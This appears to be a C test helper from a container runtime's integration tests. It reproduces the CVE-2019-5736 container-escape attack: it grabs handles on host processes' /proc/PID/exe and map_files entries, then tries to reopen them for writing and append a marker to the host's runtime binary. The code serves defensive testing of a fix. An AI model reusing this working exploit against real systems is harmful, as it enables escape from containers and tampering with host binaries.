/* exe-attack.c: the container side of the CVE-2019-5736 attack on a
 * process that the container made execute the runtime binary (through
 * /proc/self/exe or a `#!/proc/self/exe` script), for
 * tests/integration/test-exe-seal.sh. Build:
 *
 *     gcc -static -O2 -o exe-attack exe-attack.c
 *
 * Usage: exe-attack SECONDS DEV:INO
 *
 * DEV:INO (stat -c %d:%i) names the host's runtime binary. For up to
 * SECONDS, over and over, for every other process it can see:
 *   - open("/proc/PID/exe", O_RDONLY) and each /proc/PID/map_files/ entry
 *     (the latter needs CAP_CHECKPOINT_RESTORE or CAP_SYS_ADMIN); a handle
 *     on anything but the attacker's own binary is kept (the victim runs
 *     nothing else);
 * once it holds one, it creates /attack.ready (the test then lets the
 * victim exit), waits for the victim to be gone and tries, until the time
 * is up (1.5 s at most after that), to reopen each handle O_WRONLY through
 * /proc/self/fd/N and append a marker: the real attack, which works once no
 * process executes the file.
 * Prints, one key=value a line:
 *   held=N          handles kept (one per distinct file)
 *   mapped=N        map_files entries it could open
 *   runtime=0|1     one of them is the host's runtime binary (DEV:INO)
 *   written=0|1     a write through one of them succeeded
 *   errno=TEXT      why the last reopen/write failed
 *   target=...      what the first handle was (readlink, fs type, dev:ino) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 16

static struct held {
    int fd;
    int pid;
    dev_t dev;
    ino_t ino;
} held[MAX_HELD];
static int nheld, runtime_seen, mapped;
static unsigned long long rt_dev, rt_ino;
static struct stat self_st;
static char target[512], last_errno[128] = "none";

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int known(const struct stat *st)
{
    if (st->st_dev == self_st.st_dev && st->st_ino == self_st.st_ino)
        return 1;
    for (int i = 0; i < nheld; i++)
        if (held[i].dev == st->st_dev && held[i].ino == st->st_ino)
            return 1;
    return 0;
}

static void keep(int pid, const char *path, int is_map)
{
    struct statfs sfs;
    struct stat st;
    char link[256] = "?";
    ssize_t n;
    int fd;

    if (nheld == MAX_HELD)
        return;
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    mapped += is_map;
    if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || known(&st)) {
        close(fd);
        return;
    }
    held[nheld++] = (struct held){fd, pid, st.st_dev, st.st_ino};
    if (st.st_dev == rt_dev && st.st_ino == rt_ino)
        runtime_seen = 1;
    if (!target[0]) {
        n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 1] = '\0';
        if (fstatfs(fd, &sfs) < 0)
            sfs.f_type = 0;
        snprintf(target, sizeof(target), "%s fstype=%lx dev:ino=%llu:%llu (%s)", link,
                 (unsigned long)sfs.f_type, (unsigned long long)st.st_dev,
                 (unsigned long long)st.st_ino, path);
    }
}

static void scan(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *d;
    char path[300];

    if (!proc)
        return;
    while ((d = readdir(proc))) {
        int pid = atoi(d->d_name);
        DIR *maps;
        struct dirent *m;

        if (pid <= 0 || pid == getpid())
            continue;
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        keep(pid, path, 0);
        snprintf(path, sizeof(path), "/proc/%d/map_files", pid);
        maps = opendir(path);
        while (maps && (m = readdir(maps))) {
            if (m->d_name[0] == '.')
                continue;
            snprintf(path, sizeof(path), "/proc/%d/map_files/%s", pid, m->d_name);
            keep(pid, path, 1);
        }
        if (maps)
            closedir(maps);
    }
    closedir(proc);
}

/* A zombie no longer executes anything (its mm, and with it the
 * executable, is gone before it becomes one), and nobody may reap it soon
 * when the victim's parent is not ours. */
static int alive(int pid)
{
    char path[64], buf[512], *p;
    ssize_t n;
    int fd;

    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    p = strrchr(buf, ')');
    return !(p && p[1] == ' ' && (p[2] == 'Z' || p[2] == 'X'));
}

static int victims_alive(void)
{
    for (int i = 0; i < nheld; i++)
        if (alive(held[i].pid))
            return 1;
    return 0;
}

static int try_write(void)
{
    char path[64];

    for (int i = 0; i < nheld; i++) {
        int fd;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
        fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0) {
            snprintf(last_errno, sizeof(last_errno), "reopen: %s", strerror(errno));
            continue;
        }
        if (write(fd, "pwned by the container\n", 23) == 23) {
            close(fd);
            return 1;
        }
        snprintf(last_errno, sizeof(last_errno), "write: %s", strerror(errno));
        close(fd);
    }
    return 0;
}

int main(int argc, char **argv)
{
    double end;
    int written = 0;

    if (argc != 3 || sscanf(argv[2], "%llu:%llu", &rt_dev, &rt_ino) != 2) {
        fprintf(stderr, "usage: exe-attack SECONDS DEV:INO\n");
        return 2;
    }
    if (stat("/proc/self/exe", &self_st) < 0)
        return 2;
    end = now() + atof(argv[1]);
    while (now() < end && !nheld) {
        scan();
        if (!nheld)
            usleep(2000);
    }
    if (nheld) {
        double gone = 0;

        close(open("/attack.ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
        /* Reopening for writing fails with ETXTBSY while any process
         * executes the file (the runtime's own process on the host may
         * still be exiting): wait for the victim, then keep trying for 1.5 s. */
        while (now() < end && !written && (!gone || now() < gone + 1.5)) {
            /* the first hold may have come while the victim was between
             * states (its map_files not open to us yet): keep looking at it
             * while it lives, so that the map_files path is really tried */
            if (!gone && !mapped)
                scan();
            if (!gone && !victims_alive())
                gone = now();
            if (gone)
                written = try_write();
            if (!written)
                usleep(10000);
        }
    }
    printf("held=%d\nmapped=%d\nruntime=%d\nwritten=%d\nerrno=%s\ntarget=%s\n", nheld, mapped,
           runtime_seen, written, last_errno, target);
    return 0;
}
